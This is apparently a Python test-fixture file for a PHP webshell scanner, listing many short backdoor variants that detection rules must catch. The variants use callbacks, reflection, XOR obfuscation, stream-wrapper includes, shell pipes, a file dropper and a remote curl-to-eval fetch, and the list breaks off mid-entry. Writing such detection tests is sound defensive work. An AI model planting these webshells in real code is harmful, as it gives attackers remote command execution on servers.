# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4q: misses of blind batches of PHP-trick webshells.

The variants were written without looking at the rules (callbacks, reflection, variable functions,
stream-wrapper includes, decoders, string building, password gates; the small files the ML webshell
datasets are full of).  The ones main missed are kept here, each checked as written, `padded(...)`
(behind 5 KB of neutral HTML) and `embedded(...)` (at the top of a 35 KB plugin-style file), beside
legit code that comes close to every rule issue 4q added or widened.  Nothing here comes from the
malware corpus.  Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import embedded, padded, plain

CASES: list[tuple[str, bytes, bool]] = [
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\ninclude 'zip://' . $_GET['z'] . '#shell.php';\n"),
        True,
    ),  # blind b1 inc_zip plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded("<?php\ninclude 'zip://' . $_GET['z'] . '#shell.php';\n"),
        True,
    ),  # blind b1 inc_zip padded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\ninclude 'zip://' . $_GET['z'] . '#shell.php';\n"),
        True,
    ),  # blind b1 inc_zip embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\n@require_once('phar://' . $_REQUEST['ph'] . '/x.php');\n"),
        True,
    ),  # blind b1 inc_phar plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded("<?php\n@require_once('phar://' . $_REQUEST['ph'] . '/x.php');\n"),
        True,
    ),  # blind b1 inc_phar padded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\n@require_once('phar://' . $_REQUEST['ph'] . '/x.php');\n"),
        True,
    ),  # blind b1 inc_phar embedded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        plain(
            "<?php\nclass M { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$m = new M;\n$m->system($_POST['c']);\n"
        ),
        True,
    ),  # blind b1 anon_call plain
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        padded(
            "<?php\nclass M { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$m = new M;\n$m->system($_POST['c']);\n"
        ),
        True,
    ),  # blind b1 anon_call padded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        embedded(
            "<?php\nclass M { function __call($n, $a) { return call_user_func_array($n, $a); } }\n$m = new M;\n$m->system($_POST['c']);\n"
        ),
        True,
    ),  # blind b1 anon_call embedded
    (
        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
        plain(
            "<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n$___=$$__;\n$_($___[_]);\n"
        ),
        True,
    ),  # blind b2 nonalnum_xor plain
    (
        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
        padded(
            "<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n$___=$$__;\n$_($___[_]);\n"
        ),
        True,
    ),  # blind b2 nonalnum_xor padded
    (
        "SPAMGEAR_OBFUSC_XorPairsCalledByUnderscoreVar",
        embedded(
            "<?php\n$_=('%01'^'`').('%13'^'`').('%13'^'`').('%05'^'`').('%12'^'`').('%14'^'`');\n$__='_'.('%0D'^']').('%2F'^'`').('%0E'^']').('%09'^']');\n$___=$$__;\n$_($___[_]);\n"
        ),
        True,
    ),  # blind b2 nonalnum_xor embedded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        plain(
            "<?php\n$s = new SQLite3(':memory:');\n$s->createFunction('f', 'assert');\n$s->query(\"select f('\" . $_POST['x'] . \"')\");\n"
        ),
        True,
    ),  # blind b2 sqlite3_createfunc plain
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        padded(
            "<?php\n$s = new SQLite3(':memory:');\n$s->createFunction('f', 'assert');\n$s->query(\"select f('\" . $_POST['x'] . \"')\");\n"
        ),
        True,
    ),  # blind b2 sqlite3_createfunc padded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        embedded(
            "<?php\n$s = new SQLite3(':memory:');\n$s->createFunction('f', 'assert');\n$s->query(\"select f('\" . $_POST['x'] . \"')\");\n"
        ),
        True,
    ),  # blind b2 sqlite3_createfunc embedded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        plain(
            "<?php\n$db = new PDO('sqlite::memory:');\n$db->sqliteCreateFunction('x', 'system', 1);\n$db->query(\"SELECT x('\" . $_GET['c'] . \"')\");\n"
        ),
        True,
    ),  # blind b2 pdo_sqlite_func plain
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        padded(
            "<?php\n$db = new PDO('sqlite::memory:');\n$db->sqliteCreateFunction('x', 'system', 1);\n$db->query(\"SELECT x('\" . $_GET['c'] . \"')\");\n"
        ),
        True,
    ),  # blind b2 pdo_sqlite_func padded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        embedded(
            "<?php\n$db = new PDO('sqlite::memory:');\n$db->sqliteCreateFunction('x', 'system', 1);\n$db->query(\"SELECT x('\" . $_GET['c'] . \"')\");\n"
        ),
        True,
    ),  # blind b2 pdo_sqlite_func embedded
    (
        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
        plain("<?php\nfunction x() { $a = func_get_args(); $a[0]($a[1]); }\nx($_GET['f'], $_GET['a']);\n"),
        True,
    ),  # blind b2 func_get_args plain
    (
        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
        padded("<?php\nfunction x() { $a = func_get_args(); $a[0]($a[1]); }\nx($_GET['f'], $_GET['a']);\n"),
        True,
    ),  # blind b2 func_get_args padded
    (
        "SPAMGEAR_INPUT_ArgsDispatcherOnInput",
        embedded("<?php\nfunction x() { $a = func_get_args(); $a[0]($a[1]); }\nx($_GET['f'], $_GET['a']);\n"),
        True,
    ),  # blind b2 func_get_args embedded
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        plain("<?php\n$o = (object) array('f' => 'assert');\n($o->f)($_POST['x']);\n"),
        True,
    ),  # blind b2 obj_prop_call plain
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        padded("<?php\n$o = (object) array('f' => 'assert');\n($o->f)($_POST['x']);\n"),
        True,
    ),  # blind b2 obj_prop_call padded
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        embedded("<?php\n$o = (object) array('f' => 'assert');\n($o->f)($_POST['x']);\n"),
        True,
    ),  # blind b2 obj_prop_call embedded
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        plain("<?php\n$a = array('system');\n$a[0]($_GET['c']);\n"),
        True,
    ),  # blind b2 array_slot_name plain
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        padded("<?php\n$a = array('system');\n$a[0]($_GET['c']);\n"),
        True,
    ),  # blind b2 array_slot_name padded
    (
        "SPAMGEAR_INPUT_SinkSlotCalledOnInput",
        embedded("<?php\n$a = array('system');\n$a[0]($_GET['c']);\n"),
        True,
    ),  # blind b2 array_slot_name embedded
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        plain("<?=@`$_GET[1]`?>\n"),
        True,
    ),  # blind b2 short_echo_backtick plain
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        padded("<?=@`$_GET[1]`?>\n"),
        True,
    ),  # blind b2 short_echo_backtick padded
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        embedded("<?=@`$_GET[1]`?>\n"),
        True,
    ),  # blind b2 short_echo_backtick embedded
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        plain("<?php\necho `{$_GET['c']}`;\n"),
        True,
    ),  # blind b2 backtick_direct plain
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        padded("<?php\necho `{$_GET['c']}`;\n"),
        True,
    ),  # blind b2 backtick_direct padded
    (
        "SPAMGEAR_EVASION_BacktickOfInput",
        embedded("<?php\necho `{$_GET['c']}`;\n"),
        True,
    ),  # blind b2 backtick_direct embedded
    (
        "SPAMGEAR_EVASION_CopiedInputElementCall",
        plain("<?php\n$x = filter_input_array(INPUT_GET);\n$x['f']($x['a']);\n"),
        True,
    ),  # blind b2 filter_input_array plain
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        plain("<?php\n@EvAl($_POST['x']);\n"),
        True,
    ),  # blind b2 mixed_case_eval plain
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        padded("<?php\n@EvAl($_POST['x']);\n"),
        True,
    ),  # blind b2 mixed_case_eval padded
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        embedded("<?php\n@EvAl($_POST['x']);\n"),
        True,
    ),  # blind b2 mixed_case_eval embedded
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        plain("<?php\necho SyStEm($_GET['c']);\n"),
        True,
    ),  # blind b2 mixed_case_system plain
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        padded("<?php\necho SyStEm($_GET['c']);\n"),
        True,
    ),  # blind b2 mixed_case_system padded
    (
        "SPAMGEAR_EVASION_MixedCaseSinkOfInput",
        embedded("<?php\necho SyStEm($_GET['c']);\n"),
        True,
    ),  # blind b2 mixed_case_system embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain(
            "<?php\nclass VarStream { public $p = 0; public $d; function stream_open($path, $mode, $o, &$op) { $this->d = base64_decode(substr($path, 6)); return true; } function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += $n; return $r; } function stream_eof() { return $this->p >= strlen($this->d); } function stream_stat() { return array(); } }\nstream_wrapper_register('var', 'VarStream');\ninclude 'var://' . $_POST['v'];\n"
        ),
        True,
    ),  # blind b2 stream_wrapper plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded(
            "<?php\nclass VarStream { public $p = 0; public $d; function stream_open($path, $mode, $o, &$op) { $this->d = base64_decode(substr($path, 6)); return true; } function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += $n; return $r; } function stream_eof() { return $this->p >= strlen($this->d); } function stream_stat() { return array(); } }\nstream_wrapper_register('var', 'VarStream');\ninclude 'var://' . $_POST['v'];\n"
        ),
        True,
    ),  # blind b2 stream_wrapper padded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded(
            "<?php\nclass VarStream { public $p = 0; public $d; function stream_open($path, $mode, $o, &$op) { $this->d = base64_decode(substr($path, 6)); return true; } function stream_read($n) { $r = substr($this->d, $this->p, $n); $this->p += $n; return $r; } function stream_eof() { return $this->p >= strlen($this->d); } function stream_stat() { return array(); } }\nstream_wrapper_register('var', 'VarStream');\ninclude 'var://' . $_POST['v'];\n"
        ),
        True,
    ),  # blind b2 stream_wrapper embedded
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        plain("<?php\n$x = 'eval($_' . 'POST[\"x\"]);';\nassert($x);\n"),
        True,
    ),  # blind b3 b3_assert_string plain
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        padded("<?php\n$x = 'eval($_' . 'POST[\"x\"]);';\nassert($x);\n"),
        True,
    ),  # blind b3 b3_assert_string padded
    (
        "SPAMGEAR_EVASION_CodeLiteralEvalVar",
        embedded("<?php\n$x = 'eval($_' . 'POST[\"x\"]);';\nassert($x);\n"),
        True,
    ),  # blind b3 b3_assert_string embedded
    (
        "SPAMGEAR_EVASION_HexEscapedPregE",
        plain("<?php\npreg_replace(\"\\x2f\\x2e\\x2a\\x2f\\x65\", $_POST['c'], '');\n"),
        True,
    ),  # blind b3 b3_preg_hex_e plain
    (
        "SPAMGEAR_EVASION_HexEscapedPregE",
        padded("<?php\npreg_replace(\"\\x2f\\x2e\\x2a\\x2f\\x65\", $_POST['c'], '');\n"),
        True,
    ),  # blind b3 b3_preg_hex_e padded
    (
        "SPAMGEAR_EVASION_HexEscapedPregE",
        embedded("<?php\npreg_replace(\"\\x2f\\x2e\\x2a\\x2f\\x65\", $_POST['c'], '');\n"),
        True,
    ),  # blind b3 b3_preg_hex_e embedded
    (
        "SPAMGEAR_EVASION_InputNamedVariableCall",
        plain("<?php\n$fn = 'system';\n${$_GET['v']}($_GET['c']);\n"),
        True,
    ),  # blind b3 b3_varvar_input_name plain
    (
        "SPAMGEAR_EVASION_InputNamedVariableCall",
        padded("<?php\n$fn = 'system';\n${$_GET['v']}($_GET['c']);\n"),
        True,
    ),  # blind b3 b3_varvar_input_name padded
    (
        "SPAMGEAR_EVASION_InputNamedVariableCall",
        embedded("<?php\n$fn = 'system';\n${$_GET['v']}($_GET['c']);\n"),
        True,
    ),  # blind b3 b3_varvar_input_name embedded
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        plain(
            "<?php\n$c = new ReflectionClass('ReflectionFunction');\n$f = $c->newInstance('assert');\n$f->invoke($_POST['x']);\n"
        ),
        True,
    ),  # blind b3 b3_reflclass_newinst plain
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        padded(
            "<?php\n$c = new ReflectionClass('ReflectionFunction');\n$f = $c->newInstance('assert');\n$f->invoke($_POST['x']);\n"
        ),
        True,
    ),  # blind b3 b3_reflclass_newinst padded
    (
        "SPAMGEAR_EVASION_ReflectionOfSink",
        embedded(
            "<?php\n$c = new ReflectionClass('ReflectionFunction');\n$f = $c->newInstance('assert');\n$f->invoke($_POST['x']);\n"
        ),
        True,
    ),  # blind b3 b3_reflclass_newinst embedded
    (
        "SPAMGEAR_OBFUSC_SplitAssignSinkNameCall",
        plain("<?php\n$a = 'as';\n$b = 'sert';\ncall_user_func($a . $b, $_POST['x']);\n"),
        True,
    ),  # blind b3 b3_cuf_concat plain
    (
        "SPAMGEAR_OBFUSC_SplitAssignSinkNameCall",
        padded("<?php\n$a = 'as';\n$b = 'sert';\ncall_user_func($a . $b, $_POST['x']);\n"),
        True,
    ),  # blind b3 b3_cuf_concat padded
    (
        "SPAMGEAR_OBFUSC_SplitAssignSinkNameCall",
        embedded("<?php\n$a = 'as';\n$b = 'sert';\ncall_user_func($a . $b, $_POST['x']);\n"),
        True,
    ),  # blind b3 b3_cuf_concat embedded
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        plain("<?php\n\"assert\"($_POST['x']);\n"),
        True,
    ),  # blind b3 b3_string_call plain
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        padded("<?php\n\"assert\"($_POST['x']);\n"),
        True,
    ),  # blind b3 b3_string_call padded
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        embedded("<?php\n\"assert\"($_POST['x']);\n"),
        True,
    ),  # blind b3 b3_string_call embedded
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        plain("<?php\n('ass'.'ert')($_POST['x']);\n"),
        True,
    ),  # blind b2 paren_concat_call plain
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        padded("<?php\n('ass'.'ert')($_POST['x']);\n"),
        True,
    ),  # blind b2 paren_concat_call padded
    (
        "SPAMGEAR_OBFUSC_ConcatSinkName",
        embedded("<?php\n('ass'.'ert')($_POST['x']);\n"),
        True,
    ),  # blind b2 paren_concat_call embedded
    (
        "SPAMGEAR_EVASION_WalkInputKeyCall",
        plain("<?php\narray_walk($_GET, function ($v, $k) { $k($v); });\n"),
        True,
    ),  # blind b3 b3_walk_kv plain
    (
        "SPAMGEAR_EVASION_WalkInputKeyCall",
        padded("<?php\narray_walk($_GET, function ($v, $k) { $k($v); });\n"),
        True,
    ),  # blind b3 b3_walk_kv padded
    (
        "SPAMGEAR_EVASION_WalkInputKeyCall",
        embedded("<?php\narray_walk($_GET, function ($v, $k) { $k($v); });\n"),
        True,
    ),  # blind b3 b3_walk_kv embedded
    (
        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
        plain(
            "<?php\n$ch = curl_init('http://203.0.113.9/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\neval(curl_exec($ch));\n"
        ),
        True,
    ),  # blind b4 b4_curl_eval plain
    (
        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
        padded(
            "<?php\n$ch = curl_init('http://203.0.113.9/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\neval(curl_exec($ch));\n"
        ),
        True,
    ),  # blind b4 b4_curl_eval padded
    (
        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
        embedded(
            "<?php\n$ch = curl_init('http://203.0.113.9/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\neval(curl_exec($ch));\n"
        ),
        True,
    ),  # blind b4 b4_curl_eval embedded
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain("<?php\n$e = 'e';\npreg_replace('/x/' . $e, $_POST['c'], 'x');\n"),
        True,
    ),  # blind b4 b4_split_e_modifier plain
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        padded("<?php\n$e = 'e';\npreg_replace('/x/' . $e, $_POST['c'], 'x');\n"),
        True,
    ),  # blind b4 b4_split_e_modifier padded
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded("<?php\n$e = 'e';\npreg_replace('/x/' . $e, $_POST['c'], 'x');\n"),
        True,
    ),  # blind b4 b4_split_e_modifier embedded
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        plain("<?php\n$s = expect_popen($_GET['c']);\nfpassthru($s);\n"),
        True,
    ),  # blind b4 b4_expect_popen plain
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        padded("<?php\n$s = expect_popen($_GET['c']);\nfpassthru($s);\n"),
        True,
    ),  # blind b4 b4_expect_popen padded
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        embedded("<?php\n$s = expect_popen($_GET['c']);\nfpassthru($s);\n"),
        True,
    ),  # blind b4 b4_expect_popen embedded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        plain(
            "<?php\nforeach (new CallbackFilterIterator(new ArrayIterator(array($_POST['x'])), 'assert') as $v) {}\n"
        ),
        True,
    ),  # blind b4 b4_callback_filter_it plain
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        padded(
            "<?php\nforeach (new CallbackFilterIterator(new ArrayIterator(array($_POST['x'])), 'assert') as $v) {}\n"
        ),
        True,
    ),  # blind b4 b4_callback_filter_it padded
    (
        "SPAMGEAR_EVASION_SinkNameRareCallback",
        embedded(
            "<?php\nforeach (new CallbackFilterIterator(new ArrayIterator(array($_POST['x'])), 'assert') as $v) {}\n"
        ),
        True,
    ),  # blind b4 b4_callback_filter_it embedded
    (
        "SPAMGEAR_INPUT_ExplodedInputCall",
        plain(
            "<?php\nif (isset($_POST['x'])) { $y = explode(',', $_POST['x']); call_user_func($y[0], $y[1]); }\n"
        ),
        True,
    ),  # blind b4 b4_explode_cuf plain
    (
        "SPAMGEAR_INPUT_ExplodedInputCall",
        padded(
            "<?php\nif (isset($_POST['x'])) { $y = explode(',', $_POST['x']); call_user_func($y[0], $y[1]); }\n"
        ),
        True,
    ),  # blind b4 b4_explode_cuf padded
    (
        "SPAMGEAR_INPUT_ExplodedInputCall",
        embedded(
            "<?php\nif (isset($_POST['x'])) { $y = explode(',', $_POST['x']); call_user_func($y[0], $y[1]); }\n"
        ),
        True,
    ),  # blind b4 b4_explode_cuf embedded
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        plain(
            "<?php\n$c = $_POST['c'];\n$p = proc_open('/bin/sh', array(array('pipe', 'r'), array('pipe', 'w'), array('pipe', 'w')), $pipes);\nfwrite($pipes[0], $c);\nfclose($pipes[0]);\necho stream_get_contents($pipes[1]);\n"
        ),
        True,
    ),  # blind b4 b4_proc_stdin plain
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        padded(
            "<?php\n$c = $_POST['c'];\n$p = proc_open('/bin/sh', array(array('pipe', 'r'), array('pipe', 'w'), array('pipe', 'w')), $pipes);\nfwrite($pipes[0], $c);\nfclose($pipes[0]);\necho stream_get_contents($pipes[1]);\n"
        ),
        True,
    ),  # blind b4 b4_proc_stdin padded
    (
        "SPAMGEAR_INPUT_ShellStdinOfInput",
        embedded(
            "<?php\n$c = $_POST['c'];\n$p = proc_open('/bin/sh', array(array('pipe', 'r'), array('pipe', 'w'), array('pipe', 'w')), $pipes);\nfwrite($pipes[0], $c);\nfclose($pipes[0]);\necho stream_get_contents($pipes[1]);\n"
        ),
        True,
    ),  # blind b4 b4_proc_stdin embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php\necho passthru(strval($_GET['c']));\n"),
        True,
    ),  # blind b4 b4_passthru_strval plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php\necho passthru(strval($_GET['c']));\n"),
        True,
    ),  # blind b4 b4_passthru_strval padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php\necho passthru(strval($_GET['c']));\n"),
        True,
    ),  # blind b4 b4_passthru_strval embedded
    (
        "SPAMGEAR_INPUT_SinkVarSpreadOnInput",
        plain("<?php\n$cb = 'assert';\n$cb(...array($_POST['x']));\n"),
        True,
    ),  # blind b5 b5_spread_cb plain
    (
        "SPAMGEAR_INPUT_SinkVarSpreadOnInput",
        padded("<?php\n$cb = 'assert';\n$cb(...array($_POST['x']));\n"),
        True,
    ),  # blind b5 b5_spread_cb padded
    (
        "SPAMGEAR_INPUT_SinkVarSpreadOnInput",
        embedded("<?php\n$cb = 'assert';\n$cb(...array($_POST['x']));\n"),
        True,
    ),  # blind b5 b5_spread_cb embedded
    (
        "SPAMGEAR_INPUT_CopyInputToPhp",
        plain("<?php\ncopy($_GET['u'], 'wp-cache.php');\n"),
        True,
    ),  # blind b5 b5_copy_dropper plain
    (
        "SPAMGEAR_INPUT_CopyInputToPhp",
        padded("<?php\ncopy($_GET['u'], 'wp-cache.php');\n"),
        True,
    ),  # blind b5 b5_copy_dropper padded
    (
        "SPAMGEAR_INPUT_CopyInputToPhp",
        embedded("<?php\ncopy($_GET['u'], 'wp-cache.php');\n"),
        True,
    ),  # blind b5 b5_copy_dropper embedded
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        plain(
            "<?php\nerror_reporting(0);\n$a = $_GET;\nif (isset($a['x'])) { echo '<pre>'; $b = $a['x']; echo `$b`; }\n"
        ),
        True,
    ),  # blind b5 b5_copy_backtick plain
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        padded(
            "<?php\nerror_reporting(0);\n$a = $_GET;\nif (isset($a['x'])) { echo '<pre>'; $b = $a['x']; echo `$b`; }\n"
        ),
        True,
    ),  # blind b5 b5_copy_backtick padded
    (
        "SPAMGEAR_EVASION_BacktickVarNearInput",
        embedded(
            "<?php\nerror_reporting(0);\n$a = $_GET;\nif (isset($a['x'])) { echo '<pre>'; $b = $a['x']; echo `$b`; }\n"
        ),
        True,
    ),  # blind b5 b5_copy_backtick embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php\necho system(base64_decode(strrev($_GET['c'])));\n"),
        True,
    ),  # blind b5 b5_system_b64_strrev plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php\necho system(base64_decode(strrev($_GET['c'])));\n"),
        True,
    ),  # blind b5 b5_system_b64_strrev padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php\necho system(base64_decode(strrev($_GET['c'])));\n"),
        True,
    ),  # blind b5 b5_system_b64_strrev embedded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        plain(
            "<?php\nclass X { static function __callStatic($n, $a) { return $n(...$a); } }\nX::system($_GET['c']);\n"
        ),
        True,
    ),  # blind b5 b5_callstatic plain
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        padded(
            "<?php\nclass X { static function __callStatic($n, $a) { return $n(...$a); } }\nX::system($_GET['c']);\n"
        ),
        True,
    ),  # blind b5 b5_callstatic padded
    (
        "SPAMGEAR_INPUT_MagicMethodSink",
        embedded(
            "<?php\nclass X { static function __callStatic($n, $a) { return $n(...$a); } }\nX::system($_GET['c']);\n"
        ),
        True,
    ),  # blind b5 b5_callstatic embedded
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        plain("<?php\nfunction f($a) { return $a; }\nf('system')($_GET['c']);\n"),
        True,
    ),  # blind b5 b5_userfunc_ret_call plain
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        padded("<?php\nfunction f($a) { return $a; }\nf('system')($_GET['c']);\n"),
        True,
    ),  # blind b5 b5_userfunc_ret_call padded
    (
        "SPAMGEAR_EVASION_LiteralSinkCalledOnInput",
        embedded("<?php\nfunction f($a) { return $a; }\nf('system')($_GET['c']);\n"),
        True,
    ),  # blind b5 b5_userfunc_ret_call embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\ninclude 'data:text/plain,' . urlencode($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_data_urlencode plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded("<?php\ninclude 'data:text/plain,' . urlencode($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_data_urlencode padded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\ninclude 'data:text/plain,' . urlencode($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_data_urlencode embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\nrequire 'data://text/plain;base64,' . base64_encode($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_data_b64encode plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded("<?php\nrequire 'data://text/plain;base64,' . base64_encode($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_data_b64encode padded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\nrequire 'data://text/plain;base64,' . base64_encode($_POST['x']);\n"),
        True,
    ),  # blind b6 b6_data_b64encode embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\n$u = 'php://input';\ninclude $u;\n"),
        True,
    ),  # blind b6 b6_inc_var_input plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded("<?php\n$u = 'php://input';\ninclude $u;\n"),
        True,
    ),  # blind b6 b6_inc_var_input padded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\n$u = 'php://input';\ninclude $u;\n"),
        True,
    ),  # blind b6 b6_inc_var_input embedded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain("<?php\ninclude 'ph' . 'p://input';\n"),
        True,
    ),  # blind b6 b6_inc_split_input plain
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded("<?php\ninclude 'ph' . 'p://input';\n"),
        True,
    ),  # blind b6 b6_inc_split_input padded
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded("<?php\ninclude 'ph' . 'p://input';\n"),
        True,
    ),  # blind b6 b6_inc_split_input embedded
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        plain("<?php\n$x = file_get_contents('php://input');\n$f = create_function('', $x);\n$f();\n"),
        True,
    ),  # blind b6 b6_cf_input_stream plain
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        padded("<?php\n$x = file_get_contents('php://input');\n$f = create_function('', $x);\n$f();\n"),
        True,
    ),  # blind b6 b6_cf_input_stream padded
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        embedded("<?php\n$x = file_get_contents('php://input');\n$f = create_function('', $x);\n$f();\n"),
        True,
    ),  # blind b6 b6_cf_input_stream embedded
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        plain("<?php\n$x = file('php://input');\neval(implode('', $x));\n"),
        True,
    ),  # blind b6 b6_file_input plain
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        padded("<?php\n$x = file('php://input');\neval(implode('', $x));\n"),
        True,
    ),  # blind b6 b6_file_input padded
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        embedded("<?php\n$x = file('php://input');\neval(implode('', $x));\n"),
        True,
    ),  # blind b6 b6_file_input embedded
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        plain("<?php\n$x = simplexml_load_string($_POST['x']);\neval((string) $x->c);\n"),
        True,
    ),  # blind b6 b6_simplexml plain
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        padded("<?php\n$x = simplexml_load_string($_POST['x']);\neval((string) $x->c);\n"),
        True,
    ),  # blind b6 b6_simplexml padded
    (
        "SPAMGEAR_EVASION_BodyStreamToCodeNear",
        embedded("<?php\n$x = simplexml_load_string($_POST['x']);\neval((string) $x->c);\n"),
        True,
    ),  # blind b6 b6_simplexml embedded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        plain("<?php\nsystem($_FILES['f']['name']);\n"),
        True,
    ),  # blind b6 b6_files_name_system plain
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        padded("<?php\nsystem($_FILES['f']['name']);\n"),
        True,
    ),  # blind b6 b6_files_name_system padded
    (
        "SPAMGEAR_INPUT_ShellOfInput",
        embedded("<?php\nsystem($_FILES['f']['name']);\n"),
        True,
    ),  # blind b6 b6_files_name_system embedded
    (
        "SPAMGEAR_EVASION_SplFileWriterOfInput",
        plain("<?php\n$f = new SplFileObject($_POST['f'], 'w');\n$f->fwrite($_POST['c']);\n"),
        True,
